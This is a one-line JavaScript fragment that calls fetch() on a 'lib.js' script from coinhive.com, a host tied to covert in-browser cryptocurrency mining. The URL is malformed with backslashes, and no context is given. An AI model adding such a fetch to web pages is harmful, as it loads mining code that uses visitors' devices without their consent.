fetch("https:\\\\coinhive.com\\lib.js");
